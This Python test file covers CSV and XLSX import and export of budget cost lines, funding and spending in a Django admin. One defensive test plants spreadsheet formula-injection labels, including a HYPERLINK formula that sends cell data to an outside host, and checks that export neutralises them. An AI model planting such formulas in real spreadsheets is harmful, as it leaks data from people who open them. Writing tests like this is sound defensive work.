"""Import and export of cost lines, funding and spending through the admin's two steps (preview, confirm)."""

from __future__ import annotations

import datetime
from typing import Any

import pytest
from django.forms.models import model_to_dict
from django.utils.html import escape
from pytest_django.asserts import assertContains

from budget.models import CostLine, FundingSource, Spending
from budget.resources import CostLineResource, FundingSourceResource, SpendingResource
from core.roles import COORDINATOR, STEERING_GROUP
from strategy.models import AnnualPlan
from tests.conftest import admin_url, role_user
from tests.import_export_helpers import (
    confirm,
    csv_file,
    export,
    forged_confirm,
    import_errors,
    read_csv,
    read_xlsx,
    upload,
    xlsx_file,
)

pytestmark = pytest.mark.django_db

HEADER = ["Jaar", "Onderdeel", "Omschrijving", "Volgorde", "Bedrag (€)", "Geldstroom", "Groep", "Ten laste van lijn"]


def line(**changes: Any) -> list[Any]:
    """A valid new cost line of 2024, with some cells changed."""
    values = {
        "Jaar": "2024",
        "Onderdeel": "bedrijfsvoering",
        "Omschrijving": "Nieuwe kosten",
        "Volgorde": "900",
        "Bedrag (€)": "12500",
        "Geldstroom": "regulier",
        "Groep": "",
        "Ten laste van lijn": "",
    }
    values.update(changes)
    return [values[column] for column in HEADER]


def snapshot() -> list[dict[str, Any]]:
    return [model_to_dict(cost_line) for cost_line in CostLine.objects.order_by("pk")]


def assert_refused(client: Any, content: bytes, expected: str, fmt: str = "csv") -> None:
    """The preview shows `expected` and offers no confirmation; a forged confirmation writes nothing either."""
    before = snapshot()
    response = upload(client, CostLine, content, fmt)
    assert response.status_code == 200
    assert expected in import_errors(response), import_errors(response)
    assertContains(response, escape(expected))
    assert "confirm_form" not in response.context
    assert snapshot() == before

    forged = forged_confirm(client, CostLine, content, fmt)
    assertContains(forged, escape(expected))
    assertContains(forged, "Er is niets geïmporteerd")
    assert snapshot() == before


# Refused imports: one test per kind of bad row; the valid row next to it is not written either ---------


def test_unknown_plan_is_refused_with_row_and_column(bureau_client, plan_2024) -> None:
    content = csv_file([HEADER, line(), line(Jaar="2031", Omschrijving="Andere kosten", Volgorde="901")])
    assert_refused(bureau_client, content, "Rij 3, kolom ‘Jaar’: Er is geen jaarplan 2031.")


def test_unknown_group_is_refused(bureau_client, plan_2024) -> None:
    content = csv_file([HEADER, line(Groep="Lijn 9: bestaat niet")])
    assert_refused(
        bureau_client,
        content,
        "Rij 2, kolom ‘Groep’: Er is geen groep ‘Lijn 9: bestaat niet’ in dit onderdeel van jaarplan 2024.",
    )


@pytest.mark.parametrize("amount", ["260.000", "260,000", "€ 260000", "12500.5", "veel"])
def test_an_amount_that_is_no_whole_number_is_refused(bureau_client, plan_2024, amount) -> None:
    # Django's IntegerField would read "260.000" as 260; the import is as strict as the admin form.
    content = csv_file([HEADER, line(), line(**{"Bedrag (€)": amount, "Omschrijving": "B", "Volgorde": "901"})])
    assert_refused(
        bureau_client, content, "Rij 3, kolom ‘Bedrag (€)’: Vul een bedrag in hele euro's in, zonder punten of tekens."
    )


def test_a_fractional_amount_in_xlsx_is_refused(bureau_client, plan_2024) -> None:
    content = xlsx_file([HEADER, line(**{"Bedrag (€)": 12500.5})])
    assert_refused(
        bureau_client,
        content,
        "Rij 2, kolom ‘Bedrag (€)’: Vul een bedrag in hele euro's in, zonder punten of tekens.",
        "xlsx",
    )


def test_a_duplicate_within_the_file_is_refused(bureau_client, plan_2024) -> None:
    content = csv_file([HEADER, line(), line(Volgorde="901")])
    assert_refused(bureau_client, content, "Rij 3: Deze regel staat al op rij 2 van het bestand.")


def test_a_duplicate_place_against_the_database_is_refused(bureau_client, plan_2024) -> None:
    taken = CostLine.objects.filter(plan=plan_2024).order_by("order").first()
    content = csv_file([HEADER, line(Volgorde=str(taken.order))])
    assert_refused(bureau_client, content, "Rij 2: Er staat al een kostenregel op deze plaats.")


def test_an_empty_required_field_is_refused(bureau_client, plan_2024) -> None:
    content = csv_file([HEADER, line(), line(Omschrijving="", Volgorde="901")])
    assert_refused(bureau_client, content, "Rij 3, kolom ‘Omschrijving’: Dit veld kan niet leeg zijn")


def test_a_row_of_an_adopted_plan_is_refused(bureau_client, plan_2024) -> None:
    AnnualPlan.objects.filter(pk=plan_2024.pk).update(status="vastgesteld", adopted_on=datetime.date(2024, 1, 15))
    content = csv_file([HEADER, line()])
    assert_refused(
        bureau_client, content, "Rij 2: Het jaarplan 2024 is vastgesteld; het kan niet meer worden gewijzigd."
    )


def test_a_missing_key_column_is_refused(bureau_client, plan_2024) -> None:
    content = csv_file([HEADER[1:], line()[1:]])
    response = upload(bureau_client, CostLine, content)
    assertContains(response, "Het bestand mist de kolom(men) ‘Jaar’.")
    assert "confirm_form" not in response.context


# Valid imports ----------------------------------------------------------------------------------


def test_a_valid_import_creates_and_updates_exactly_its_rows(bureau_client, plan_2024) -> None:
    existing = CostLine.objects.get(plan=plan_2024, category="personeel", label="Cluster 1: Regulier")
    others = {pk: values for pk, values in ((c["id"], c) for c in snapshot()) if pk != existing.pk}
    content = csv_file(
        [
            HEADER,
            line(Groep="", **{"Bedrag (€)": "-12500"}),
            [
                "2024",
                "Personele kosten",  # a part by its label works as well as by its key
                existing.label,
                str(existing.order),
                "1400000",
                "regulier",
                existing.group.title,
                "",
            ],
        ]
    )
    preview = upload(bureau_client, CostLine, content)
    assert preview.context["result"].totals["new"] == 1
    assert preview.context["result"].totals["update"] == 1
    assert not CostLine.objects.filter(label="Nieuwe kosten").exists()  # the preview wrote nothing

    response = confirm(bureau_client, preview)
    assert response.status_code == 302
    created = CostLine.objects.get(plan=plan_2024, label="Nieuwe kosten")
    assert (created.category, created.order, created.amount, created.group) == ("bedrijfsvoering", 900, -12500, None)
    existing.refresh_from_db()
    assert existing.amount == 1_400_000
    assert {c["id"]: c for c in snapshot() if c["id"] not in (existing.pk, created.pk)} == others


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_round_trip_of_the_2024_cost_lines_changes_nothing(bureau_client, plan_2024, fmt) -> None:
    before = snapshot()
    exported = export(bureau_client, CostLine, CostLineResource, fmt).content
    preview = upload(bureau_client, CostLine, exported, fmt)
    assert preview.context["result"].totals["update"] == len(before) == 33
    assert confirm(bureau_client, preview).status_code == 302
    after = snapshot()
    # The version of a versioned cost line counts saves; every value a person entered is the same.
    for row in before + after:
        row.pop("version", None)
    assert after == before


# Export -----------------------------------------------------------------------------------------


def test_formulas_are_neutralised_on_export_and_negative_amounts_stay_numbers(bureau_client, plan_2024) -> None:
    formula = '=HYPERLINK("https://example.org/?d="&A1,"klik")'
    target = CostLine.objects.get(plan=plan_2024, amount=-12500)
    target.label = formula
    target.save()
    others = {"+SUM(A1)": "+", "-2+3": "-", "@cmd": "@", "\tTab": "\t"}
    for pk, text in zip(CostLine.objects.exclude(pk=target.pk).values_list("pk", flat=True), others, strict=False):
        CostLine.objects.filter(pk=pk).update(label=text)

    rows = read_csv(export(bureau_client, CostLine, CostLineResource, "csv").content)
    labels = [row[2] for row in rows[1:]]
    assert "'" + formula in labels
    assert all("'" + text in labels for text in others)
    assert not any(label.startswith(("=", "+", "-", "@", "\t", "\r")) for label in labels)
    assert [row[4] for row in rows if row[2] == "'" + formula] == ["-12500"]

    sheet = read_xlsx(export(bureau_client, CostLine, CostLineResource, "xlsx").content)
    exported = next(row for row in sheet if row[2] == "'" + formula)
    assert exported[4] == -12500 and isinstance(exported[4], int)  # a number, not text
    assert all(not str(row[2]).startswith(("=", "+", "-", "@")) for row in sheet[1:])


def test_neutralised_text_imports_back_unchanged(bureau_client, plan_2024) -> None:
    target = CostLine.objects.get(plan=plan_2024, amount=-12500)
    CostLine.objects.filter(pk=target.pk).update(label="=1+1")
    exported = export(bureau_client, CostLine, CostLineResource, "xlsx").content
    assert confirm(bureau_client, upload(bureau_client, CostLine, exported, "xlsx")).status_code == 302
    target.refresh_from_db()
    assert (target.label, target.amount) == ("=1+1", -12500)


# Who may import ----------------------------------------------------------------------------------


@pytest.fixture
def user_with_role(client: Any) -> Any:
    def make(role: str) -> Any:
        client.force_login(role_user(role, role))
        return client

    return make


@pytest.mark.parametrize("role", [COORDINATOR, STEERING_GROUP])
def test_only_those_who_change_the_budget_may_import_it(user_with_role, plan_2024, role) -> None:
    client = user_with_role(role)
    assert client.get(admin_url(CostLine, "import")).status_code == 403
    response = upload(client, CostLine, csv_file([HEADER, line()]))
    assert response.status_code == 403
    assert forged_confirm(client, CostLine, csv_file([HEADER, line()])).status_code == 403
    assert not CostLine.objects.filter(label="Nieuwe kosten").exists()
    # Reading is for everyone with a login, so is the export.
    assert export(client, CostLine, CostLineResource).status_code == 200


# Funding and spending ------------------------------------------------------------------------------


def test_funding_round_trip_and_strict_amounts(bureau_client, plan_2024) -> None:
    before = list(FundingSource.objects.order_by("pk").values())
    exported = export(bureau_client, FundingSource, FundingSourceResource, "xlsx").content
    assert confirm(bureau_client, upload(bureau_client, FundingSource, exported, "xlsx")).status_code == 302
    assert list(FundingSource.objects.order_by("pk").values()) == before

    header = ["Jaar", "Omschrijving", "Volgorde", "Financier", "Geldstroom", "Bedrag (€)"]
    content = csv_file([header, ["2024", "Extra bijdrage", "99", "gemeenten", "regulier", "260.000"]])
    response = upload(bureau_client, FundingSource, content)
    assert "Rij 2, kolom ‘Bedrag (€)’: Vul een bedrag in hele euro's in, zonder punten of tekens." in (
        import_errors(response)
    )
    assert FundingSource.objects.count() == len(before)


SPENDING = ["Jaarplan", "Onderdeel", "Kostenregel", "Jaar", "Kwartaal", "Bedrag (€)", "Toelichting"]


def test_spending_is_imported_by_cost_line_year_and_quarter(bureau_client, plan_2024) -> None:
    content = csv_file(
        [
            SPENDING,
            ["2024", "personeel", "Cluster 1: Regulier", "2024", "1", "300000", "Q1"],
            ["2024", "personeel", "Cluster 1: Regulier", "2024", "2", "-2500", "creditnota"],
        ]
    )
    assert confirm(bureau_client, upload(bureau_client, Spending, content)).status_code == 302
    assert list(Spending.objects.order_by("quarter").values_list("quarter", "amount")) == [(1, 300000), (2, -2500)]

    exported = export(bureau_client, Spending, SpendingResource, "csv").content
    assert read_csv(exported)[1] == ["2024", "personeel", "Cluster 1: Regulier", "2024", "1", "300000", "Q1"]


@pytest.mark.parametrize(
    ("row", "expected"),
    [
        (
            ["2024", "personeel", "Bestaat niet", "2024", "1", "100", ""],
            "Rij 2, kolom ‘Kostenregel’: Er is geen kostenregel ‘Bestaat niet’ in dit onderdeel van jaarplan 2024.",
        ),
        (
            ["2024", "personeel", "Cluster 1: Regulier", "2024", "5", "100", ""],
            "Rij 2, kolom ‘Kwartaal’: Een kwartaal is 1, 2, 3 of 4.",
        ),
    ],
)
def test_bad_spending_rows_are_refused(bureau_client, plan_2024, row, expected) -> None:
    valid = ["2024", "personeel", "Cluster 1: Regulier", "2024", "3", "100", ""]
    response = upload(bureau_client, Spending, csv_file([SPENDING, row, valid]))
    assert expected in import_errors(response), import_errors(response)
    assert "confirm_form" not in response.context
    assert Spending.objects.count() == 0


def test_every_imported_row_gets_a_historical_record_with_the_importer(bureau_client, bureau_admin, plan_2024) -> None:
    # New rows are inserted in bulk; their history is written with them, as for changed rows.
    existing = CostLine.objects.get(plan=plan_2024, category="personeel", label="Cluster 1: Regulier")
    content = csv_file(
        [
            HEADER,
            line(),
            line(Omschrijving="Nog meer kosten", Volgorde="901", **{"Bedrag (€)": "-50"}),
            ["2024", "personeel", existing.label, str(existing.order), "1400000", "regulier", existing.group.title, ""],
        ]
    )
    preview = upload(bureau_client, CostLine, content)
    assert CostLine.history.filter(label="Nieuwe kosten").count() == 0  # the preview wrote no history either
    assert confirm(bureau_client, preview).status_code == 302

    for label, amount in (("Nieuwe kosten", 12500), ("Nog meer kosten", -50)):
        created = CostLine.objects.get(plan=plan_2024, label=label)
        records = list(created.history.all())
        assert len(records) == 1
        assert (records[0].history_type, records[0].history_user, records[0].amount) == ("+", bureau_admin, amount)
        assert records[0].history_date is not None
    changed = existing.history.first()
    assert (changed.history_type, changed.history_user, changed.amount) == ("~", bureau_admin, 1_400_000)
    existing.refresh_from_db()
    assert existing.version == 2
